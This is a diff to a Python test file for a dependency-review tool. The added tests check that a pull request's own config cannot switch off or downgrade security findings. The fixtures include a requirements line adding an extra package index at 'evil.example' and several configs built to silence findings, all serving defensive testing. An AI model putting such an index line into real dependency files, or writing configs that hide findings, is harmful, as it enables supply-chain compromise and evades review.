@@ -41,22 +41,69 @@ def test_unchanged_trees_report_only_pre_existing_findings() -> None:
     assert result.changed_files == ()
 
 
-def test_head_config_is_read_and_applies() -> None:
+def test_base_config_is_read_and_applies() -> None:
     head = {**BASE, "requirements.txt": "numpy>=1.24\ntorch>=2.1\npytest\n"}
     plain = review_trees(BASE, head, today=TODAY)
     assert {"unpinned-framework", "dev-dependency-in-production"} <= set(rules_of(plain, new=True))
     assert plain.conclusion == "neutral"
-    configured = review_trees(
-        BASE,
-        {
-            **head,
-            ".github/depreview.yml": "version: 1\nrules:\n  unpinned-framework: off\n"
-            "  dev-dependency-in-production: {severity: error}\n",
-        },
-        today=TODAY,
-    )
+    config = {
+        ".github/depreview.yml": "version: 1\nrules:\n  unpinned-framework: off\n"
+        "  dev-dependency-in-production: {severity: error}\n"
+    }
+    configured = review_trees({**BASE, **config}, {**head, **config}, today=TODAY)
     assert "unpinned-framework" not in rules_of(configured)
+    assert "config-change" not in rules_of(configured)  # unchanged config: no finding
     assert configured.conclusion == "failure"
+
+
+#: The attack of security review finding 4 (and 1): the PR's own config silences its findings.
+ERROR_HEAD = {
+    **BASE,
+    "requirements.txt": "numpy>=2.0\nnumpy<1.24\ntorch==2.1.0\n"
+    "--extra-index-url https://evil.example/simple\n",
+}
+HEAD_CONFIGS = {
+    "rule off": "version: 1\nrules:\n  conflict: off\n  untrusted-index: off\n",
+    "severity lowered": "version: 1\nrules:\n  conflict: notice\n  untrusted-index: notice\n",
+    "ignores added": "version: 1\nignore:\n  - {category: conflict, reason: x}\n"
+    "  - {rule: untrusted-index, reason: x}\n",
+    "host allowed": "version: 1\nallowed_index_hosts: [evil.example]\nrules:\n  conflict: off\n",
+    "paths narrowed": "version: 1\npaths:\n  include: ['nothing/**']\n",
+    "conclusion weakened": "version: 1\nconclusion: {warning: success}\n"
+    "rules:\n  conflict: warning\n",
+}
+
+
+def test_head_config_never_changes_the_conclusion() -> None:
+    reference = review_trees(BASE, ERROR_HEAD, today=TODAY)
+    assert reference.conclusion == "failure"
+    assert {"conflict", "untrusted-index"} <= set(rules_of(reference, new=True))
+    for label, text in HEAD_CONFIGS.items():
+        attacked = review_trees(BASE, {**ERROR_HEAD, ".github/depreview.yml": text}, today=TODAY)
+        assert attacked.conclusion == "failure", label
+        assert set(rules_of(reference)) <= set(rules_of(attacked)), label
+        (change,) = [f for f in attacked.findings if f.rule == "config-change"]
+        assert change.new and change.severity == "warning", label
+        assert "applies after merge" in change.message, label
+
+
+def test_config_change_lists_what_would_change() -> None:
+    base = {**BASE, ".github/depreview.yml": "version: 1\nrules:\n  conflict: error\n"}
+    head = {
+        **BASE,
+        ".github/depreview.yml": "version: 1\nrules:\n  conflict: off\n"
+        "allowed_index_hosts: [internal.corp]\n",
+    }
+    result = review_trees(base, head, today=TODAY)
+    (change,) = [f for f in result.findings if f.rule == "config-change"]
+    assert "rules.conflict: error -> off" in change.evidence
+    assert "allowed_index_hosts added: internal.corp" in change.evidence
+    stricter = {**BASE, ".github/depreview.yml": "version: 1\nrules:\n  conflict: error\n"}
+    (notice,) = [
+        f for f in review_trees(BASE, stricter, today=TODAY).findings if f.rule == "config-change"
+    ]
+    assert notice.severity == "notice"
+    assert notice.evidence == ("rules.conflict: default -> error",)
 
 
 def test_config_override_text_wins_and_bad_config_is_reported() -> None:
